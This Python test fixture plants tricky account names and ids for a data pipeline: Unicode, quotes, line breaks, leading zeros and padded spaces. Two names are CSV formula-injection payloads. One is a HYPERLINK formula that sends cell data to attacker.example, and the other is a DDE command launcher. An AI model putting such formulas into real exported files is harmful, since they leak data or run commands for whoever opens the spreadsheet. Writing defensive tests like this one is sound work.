"""Texts that break careless readers: formulas, quotes, line breaks, other scripts, leading zeros, spaces."""

from tools.cases.planting import Planting

RECENT = "2024-11-15"


def plant_texts(planting: Planting) -> None:
    """Plant the text cases."""
    _plant_names(planting)
    _plant_ids(planting)


def _plant_names(planting: Planting) -> None:
    for case, account_id, name in (
        ("CSV formula in a name", "A-FORMULA", '=HYPERLINK("http://attacker.example/?q="&A1,"Open invoice")'),
        ("CSV formula in a name", "A-FORMULA-AT", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("non-ASCII name", "A-UNICODE", "Müller & Søn Gießerei Łódź"),
        ("non-ASCII name", "A-UNICODE-CJK", "株式会社サンプル 🏭"),
        ("quotes and commas in a name", "A-QUOTES", 'Say "Cheese", Inc.'),
        ("quoted line break in a name", "A-NEWLINE", "Two Lines\nLtd"),
    ):
        planting.account(account_id, (RECENT, "700.00"), account_name=name)
        planting.expect_account(
            case,
            account_id,
            "The name arrives as it is",
            segment="established small active small",
            rule="8",
            channel="inside",
            account_name=name,
        )


def _plant_ids(planting: Planting) -> None:
    case = "leading zeros in ids"
    for account_id, amount in (("42", "100.00"), ("042", "200.00"), ("00042", "300.00")):
        planting.account(account_id, (RECENT, amount), account_name=f"Number {account_id} Trading")
        planting.expect(
            case,
            "account_channel_assignments",
            account_id,
            "Ids are text: 42, 042 and 00042 are three accounts",
            account_name=f"Number {account_id} Trading",
            net_revenue_12m=amount,
        )
    planting.account("A-ZEROS")
    planting.order("00077", "A-ZEROS", RECENT, "100.00")
    planting.order("77", "A-ZEROS", RECENT, "200.00")
    planting.header("0077", "A-ZEROS", RECENT, order_total="400.00")
    planting.line("0077", "01", "1", "300.00")
    planting.line("0077", "1", "1", "100.00")
    planting.expect(
        case,
        "account_channel_assignments",
        "A-ZEROS",
        "Three orders; line numbers are text too",
        net_revenue_12m="700.00",
    )
    for key, amount in (("00077/1", "100.00"), ("77/1", "200.00"), ("0077/01", "300.00"), ("0077/1", "100.00")):
        planting.expect_ledger(case, key, "sale", "A line of its own", exact_net_amount=amount)
    case = "spaces around ids"
    planting.account("  A-SPACES ", account_name="  Spaces Around  ")
    planting.order(" O-SPACES-1", "A-SPACES  ", RECENT, "12000.00")
    planting.expect_account(
        case,
        "A-SPACES",
        "Texts are trimmed",
        segment="established medium active small",
        rule="8",
        channel="inside",
        account_name="Spaces Around",
        net_revenue_12m="12000.00",
    )
    planting.expect_ledger(case, "O-SPACES-1/1", "sale", "Texts are trimmed", exact_net_amount="12000.00")
